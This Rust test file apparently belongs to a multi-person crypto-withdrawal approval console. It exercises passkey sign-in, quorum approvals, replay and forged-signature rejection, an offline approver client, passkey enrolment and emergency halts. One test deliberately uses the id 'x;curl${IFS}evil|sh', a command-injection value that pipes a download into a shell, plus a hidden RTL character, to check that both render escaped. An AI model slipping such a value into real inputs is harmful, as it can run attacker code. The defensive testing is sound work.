//! What people say at the console: answers, proposals and new passkeys, and what a session alone can not.

use super::*;
use keepwhole_core::authority::class::Class;
use keepwhole_core::authority::quorum::Quorum;
use keepwhole_core::command::{Body, Command as Asked};
use keepwhole_core::guard::Change;

#[test]
fn two_people_clear_a_withdrawal_each_with_a_touch_of_their_own() {
    let mut world = world(false);
    let answer = with(&mut world, ada, |w, key| w.try_sign_in(key, ""));
    assert_eq!(answer.json()["next"], "/guard?lang=en");
    let set: Vec<&str> = answer
        .headers
        .lines()
        .filter(|line| line.starts_with("set-cookie"))
        .collect();
    assert!(set[0].contains("HttpOnly; SameSite=Strict"), "{}", set[0]);
    assert!(
        !set[0].contains("Max-Age"),
        "the session's ends with the browser"
    );
    let cookies = answer.cookies();
    let page = world.get("/approve/w-1", &cookies);
    for said in [
        "Signed in",
        "3 ETH",
        "0x2222222222222222222222222222222222222222",
        "Approve with a passkey",
        "0 of 2",
        "/passkey.js",
    ] {
        let text = page.body.replace("<span class=\"symbol\">", "");
        assert!(text.contains(said), "{said} is missing: {text}");
    }
    assert!(
        page.header("content-security-policy")
            .contains("script-src 'self'")
    );
    let outside = world.get("/approve/w-1", "");
    assert!(
        !outside.body.contains("Approve with a passkey"),
        "nobody is signed in"
    );
    let done = with(&mut world, ada, |w, key| {
        w.answer(key, &cookies, ("w-1", "risk", "approve"))
    });
    assert_eq!(done.json()["next"], "/approve/w-1?lang=en", "{}", done.body);
    assert!(matches!(world.stands("w-1"), Stands::Waits(_)));
    // The same person again is no second one; and the other role needs the other person.
    let again = with(&mut world, ada, |w, key| {
        w.answer(key, &cookies, ("w-1", "risk", "approve"))
    });
    assert_eq!((again.status, again.code().as_str()), (409, "same_person"));
    assert!(matches!(world.stands("w-1"), Stands::Waits(_)));
    let role = with(&mut world, ada, |w, key| {
        w.answer(key, &cookies, ("w-1", "treasury", "approve"))
    });
    assert_eq!((role.status, role.code().as_str()), (409, "role_missing"));
    let (second, rejected) = with(&mut world, bea, |w, key| {
        let cookies = w.sign_in(key);
        let second = w.answer(key, &cookies, ("w-1", "treasury", "approve"));
        let rejected = w.answer(key, &cookies, ("w-2", "treasury", "reject"));
        (second, rejected)
    });
    assert_eq!(second.status, 200, "{}", second.body);
    assert_eq!(world.stands("w-1"), Stands::Done);
    assert_eq!(rejected.status, 200, "{}", rejected.body);
    assert!(matches!(world.stands("w-2"), Stands::Denied(_)));
}

#[test]
fn a_session_alone_does_nothing_and_an_assertion_serves_once() {
    let mut world = world(false);
    let cookies = with(&mut world, ada, |w, key| w.sign_in(key));
    let asked = json!({ "target": "w-1", "role": "risk", "decision": "approve" });
    for path in ["/answer/begin", "/propose/begin"] {
        let body = if path.starts_with("/answer") {
            asked.clone()
        } else {
            json!({ "kind": "halt", "scope": "all" })
        };
        assert_eq!(world.post(path, "", &body).code(), "no_session", "{path}");
    }
    let (ticket, challenge) = world.begin("/answer/begin", &cookies, &asked);
    let empty = json!({ "ticket": ticket, "credential": "", "authenticator_data": "", "client_data_json": "", "signature": "" });
    let before = world.entries();
    assert_eq!(
        world.post("/answer/finish", &cookies, &empty).code(),
        "malformed"
    );
    assert_eq!(world.entries(), before, "nothing reached the journal");
    let good = with(&mut world, ada, |w, key| w.posted(&ticket, key, &challenge));
    // Another session's ticket opens nothing, and is spent.
    let other = with(&mut world, bea, |w, key| w.sign_in(key));
    assert_eq!(
        world.post("/answer/finish", &other, &good).code(),
        "ceremony_over"
    );
    assert_eq!(
        world.post("/answer/finish", &cookies, &good).code(),
        "ceremony_over"
    );
    // The assertion of one prompt for another.
    let (ticket, challenge) = world.begin("/answer/begin", &cookies, &asked);
    let mut first = with(&mut world, ada, |w, key| w.posted(&ticket, key, &challenge));
    assert_eq!(world.post("/answer/finish", &cookies, &first).status, 200);
    assert_eq!(
        world.post("/answer/finish", &cookies, &first).code(),
        "ceremony_over"
    );
    let (ticket, _) = world.begin("/answer/begin", &cookies, &asked);
    first["ticket"] = json!(ticket);
    assert_eq!(
        world.post("/answer/finish", &cookies, &first).code(),
        "challenge_mismatch"
    );
    // A sign-in's assertion is no answer, and an answer's is no sign-in.
    let (ticket, _) = world.begin("/sign-in/begin", "", &json!({ "next": "/" }));
    first["ticket"] = json!(ticket);
    assert_eq!(
        world.post("/sign-in/finish", "", &first).code(),
        "challenge_mismatch"
    );
    // Somebody else's authenticator in ada's session; the attempt stands in the journal.
    let before = world.entries();
    let foreign = with(&mut world, bea, |w, key| {
        w.answer(key, &cookies, ("w-1", "risk", "approve"))
    });
    assert_eq!(foreign.code(), "credential_of_other");
    assert!(world.entries() > before);
    // One bit of the signature.
    let (ticket, challenge) = world.begin("/answer/begin", &cookies, &asked);
    let mut bent = with(&mut world, ada, |w, key| w.posted(&ticket, key, &challenge));
    let mut signature = URL_SAFE_NO_PAD
        .decode(bent["signature"].as_str().unwrap())
        .unwrap();
    *signature.last_mut().unwrap() ^= 1;
    bent["signature"] = json!(URL_SAFE_NO_PAD.encode(signature));
    assert_eq!(
        world.post("/answer/finish", &cookies, &bent).code(),
        "signature_invalid"
    );
    assert!(matches!(world.stands("w-1"), Stands::Waits(_)));
}

/// The answer of the approver client to a request file.
fn client_answer(key: &mut Authenticator, request: &Value) -> String {
    let text = |field: &str| request[field].as_str().unwrap();
    let command = Command::read(text("command")).unwrap();
    let nonce: Vec<u8> = (0..32)
        .step_by(2)
        .map(|at| u8::from_str_radix(&text("nonce")[at..at + 2], 16).unwrap())
        .collect();
    let nonce: [u8; 16] = nonce.try_into().unwrap();
    let (issued, expires) = (
        request["issued"].as_u64().unwrap(),
        request["expires"].as_u64().unwrap(),
    );
    let (approver, role) = (text("approver"), text("role"));
    let challenge = challenge(
        &command.digest(),
        &nonce,
        approver,
        role,
        Decision::Approve,
        expires,
    )
    .unwrap();
    Approval {
        approver: approver.to_owned(),
        assertion: key.sign(
            APPROVER,
            challenge.as_bytes(),
            &format!("https://{APPROVER}"),
        ),
        credential_id: key.id.clone(),
        decision: Decision::Approve,
        expires,
        issued,
        nonce,
        received: issued,
        role: role.to_owned(),
    }
    .to_text()
}

#[test]
fn above_the_limit_only_the_approver_client_counts_and_its_answer_is_brought_here() {
    let mut world = world(false);
    let cookies = with(&mut world, ada, |w, key| w.sign_in(key));
    let page = world.get("/approve/w-large", &cookies);
    assert!(
        page.body
            .contains("From this amount on the approver client is needed")
    );
    assert!(!page.body.contains("Approve with a passkey"));
    let refused = with(&mut world, ada, |w, key| {
        w.answer(key, &cookies, ("w-large", "risk", "approve"))
    });
    assert_eq!(refused.code(), "separate_client_needed");
    assert_ne!(
        world
            .get("/guard/w-large/approval-request.json?role=risk", "")
            .status,
        200
    );
    assert_eq!(
        world
            .get(
                "/guard/w-large/approval-request.json?role=treasury",
                &cookies
            )
            .status,
        409
    );
    let file = world.get("/guard/w-large/approval-request.json?role=risk", &cookies);
    assert!(file.header("content-disposition").contains("attachment"));
    let answer = with(&mut world, ada, |_, key| client_answer(key, &file.json()));
    let bring = |world: &World, name: &str, content: &str| {
        let body = format!(
            "--b1\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"a.json\"\r\nContent-Type: application/json\r\n\r\n{content}\r\n--b1--\r\n"
        );
        let headers = format!(
            "Origin: {}\r\nContent-Type: multipart/form-data; boundary=b1\r\nCookie: {cookies}\r\n",
            world.origin
        );
        world.post_with("/approve/w-large/answer", &headers, &body)
    };
    assert_eq!(bring(&world, "other", &answer).status, 400);
    let bent = bring(
        &world,
        "answer",
        &answer.replace("\"risk\"", "\"treasury\""),
    );
    assert_eq!(bent.status, 409);
    assert!(
        bent.body.contains("Not counted:") && bent.body.contains("<code>"),
        "{}",
        bent.body
    );
    let brought = bring(&world, "answer", &answer);
    assert_eq!(brought.status, 303, "{}", brought.body);
    assert_eq!(world.desk.matter("w-large").unwrap().said.len(), 1);
    assert_eq!(
        bring(&world, "answer", &answer).status,
        303,
        "the same answer again changes nothing"
    );
    assert_eq!(world.desk.matter("w-large").unwrap().said.len(), 1);
}

#[test]
fn a_passkey_is_made_proposed_approved_and_signs_in() {
    let mut world = world(false);
    let begun = world
        .post(
            "/enrol/begin",
            "",
            &json!({ "name": "kim", "kind": "phone" }),
        )
        .json();
    assert_eq!(
        begun["options"]["authenticatorSelection"]["residentKey"],
        "required"
    );
    let challenge = begun["options"]["challenge"].as_str().unwrap();
    let mut kim = Authenticator::of("kim");
    let mut data = authenticator_data("localhost", UP | UV | AT, 0);
    data.extend([0; 16]);
    data.extend(u16::try_from(kim.id.len()).unwrap().to_be_bytes());
    data.extend(&kim.id);
    data.extend(kim.cose());
    let client = format!(
        r#"{{"type":"webauthn.create","challenge":"{challenge}","origin":"{}","crossOrigin":false}}"#,
        world.origin
    );
    let body = json!({
        "ticket": begun["ticket"], "authenticator_data": URL_SAFE_NO_PAD.encode(data),
        "client_data_json": URL_SAFE_NO_PAD.encode(client),
    });
    let before = world.entries();
    let made = world.post("/enrol/finish", "", &body);
    assert_eq!(made.status, 200, "{}", made.body);
    assert_eq!(
        world.post("/enrol/finish", "", &body).code(),
        "ceremony_over"
    );
    let next = made.json()["next"].as_str().unwrap().to_owned();
    let path = next.split('?').next().unwrap().to_owned();
    let under = path.strip_prefix("/enrol/").unwrap().to_owned();
    let words = keepwhole::authority::credential_words(&kim.id, &kim.cose());
    assert!(world.get(&next, "").body.contains(&words));
    let file = world.get(&format!("{path}/credential.json"), "");
    let key = keepwhole::authority::credential(&file.body).unwrap();
    assert_eq!(
        (key.id.clone(), key.kind, key.device_bound),
        (kim.id.clone(), DeviceKind::Phone, true)
    );
    assert_eq!(
        world.entries(),
        before,
        "a passkey that is made is enrolled nowhere"
    );
    assert_eq!(world.try_sign_in(&mut kim, "").code(), "credential_unknown");
    let asked = json!({ "kind": "enrol", "made": under, "person": "kim", "account": "kim", "roles": "risk", "days": "30" });
    let (cookies, id) = with(&mut world, ada, |w, key| {
        let cookies = w.sign_in(key);
        let (ticket, challenge) = w.begin("/propose/begin", &cookies, &asked);
        let body = w.posted(&ticket, key, &challenge);
        let done = w.post("/propose/finish", &cookies, &body);
        assert_eq!(done.status, 200, "{}", done.body);
        let next = done.json()["next"].as_str().unwrap().to_owned();
        (
            cookies,
            next.split('?')
                .next()
                .unwrap()
                .rsplit('/')
                .next()
                .unwrap()
                .to_owned(),
        )
    });
    let page = world.get(&format!("/approve/{id}"), &cookies);
    assert!(
        page.body.contains(&words),
        "who approves sees the same words"
    );
    let first = with(&mut world, ada, |w, key| {
        w.answer(key, &cookies, (&id, "administrator", "approve"))
    });
    assert_eq!(first.status, 200, "{}", first.body);
    assert!(matches!(world.stands(&id), Stands::Waits(_)));
    let second = with(&mut world, bea, |w, key| {
        let cookies = w.sign_in(key);
        w.answer(key, &cookies, (&id, "administrator", "approve"))
    });
    assert_eq!(second.status, 200, "{}", second.body);
    assert_eq!(world.stands(&id), Stands::Done);
    assert_eq!(world.try_sign_in(&mut kim, "").status, 200);
}

#[test]
fn one_person_halts_with_a_touch() {
    let mut world = world(false);
    let cookies = with(&mut world, ada, |w, key| w.sign_in(key));
    assert!(
        world
            .get("/stop", &cookies)
            .body
            .contains("Halt with a passkey")
    );
    let asked = json!({ "kind": "halt", "scope": "all" });
    let (ticket, challenge) = world.begin("/propose/begin", &cookies, &asked);
    // Another person's touch in her session.
    let other = with(&mut world, bea, |w, key| w.posted(&ticket, key, &challenge));
    assert_eq!(
        world.post("/propose/finish", &cookies, &other).code(),
        "credential_of_other"
    );
    let done = with(&mut world, ada, |w, key| {
        let (ticket, challenge) = w.begin("/propose/begin", &cookies, &asked);
        let body = w.posted(&ticket, key, &challenge);
        w.post("/propose/finish", &cookies, &body)
    });
    assert_eq!(done.status, 200, "{}", done.body);
    assert!(world.get("/", &cookies).body.contains("banner-tripped"));
    for (asked, code) in [
        (json!({ "kind": "halt", "scope": "" }), "name"),
        (json!({ "kind": "sweep", "scope": "all" }), "malformed"),
        (
            json!({ "kind": "enrol", "made": "x", "person": "k", "account": "k", "roles": "risk", "days": "1" }),
            "not_made",
        ),
    ] {
        assert_eq!(world.post("/propose/begin", &cookies, &asked).code(), code);
    }
}

/// Asks the journal itself.
fn propose(world: &World, id: &str, change: Change) {
    let command = Asked {
        id: Some(id.to_owned()),
        actor: Some("ada".to_owned()),
        body: Body::ProposeChange(change),
    };
    let reply = world.running.as_ref().unwrap().handle().submit(command);
    let answer = reply.unwrap().answer;
    assert!(matches!(answer, Said::Held(_)), "{answer:?}");
}

#[test]
fn what_a_digest_stands_for_is_shown_whole_beside_what_is_in_force() {
    let world = world(false);
    let running = world.running.as_ref().unwrap();
    let rules = running.reader().read(|state| state.authority.rules.clone());
    let mut rules = rules.unwrap().unwrap();
    rules.version = 2;
    rules.clearers.insert(0, "risk\u{202e}".to_owned());
    rules.separate_from[0].from *= 2;
    let lift = |quorum: &&mut Quorum| quorum.class == Class::LiftStop;
    rules.quorums.iter_mut().find(lift).unwrap().persons = 3;
    // A legal id, and no word of a command line.
    let id = "x;curl${IFS}evil|sh";
    propose(&world, id, Change::AdoptAuthority(rules));
    let path: String = id.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let page = world.get(&format!("/approve/{path}"), "").body;
    for said in [
        "Version 1 now, 2 proposed",
        "distinct persons: 3",
        "distinct persons: 2",
        "ETH from 4<",
        "ETH from 8<",
        "risk\\u{202e}",
        "keepwhole staff approve 'x;curl${IFS}evil|sh' answer.json",
    ] {
        assert!(page.contains(said), "{said} is missing: {page}");
    }
    assert!(!page.contains('\u{202e}'));
    assert_eq!(
        page.matches("<strong>changed</strong>").count(),
        3,
        "{page}"
    );
    let mut korean = world.get(&format!("/approve/{path}?lang=ko"), "").body;
    korean.retain(|letter| letter != '\n');
    assert!(korean.contains("지금 1판, 제안 2판"), "{korean}");
}

#[test]
fn a_request_and_the_word_on_it_lead_to_each_other() {
    let world = world(false);
    let matter = world.get("/approve/w-1", "").body;
    assert!(matter.contains("href=\"/guard/w-1\""), "{matter}");
    let request = world.get("/guard/w-1", "").body;
    assert!(request.contains("href=\"/approve/w-1\""), "{request}");
}
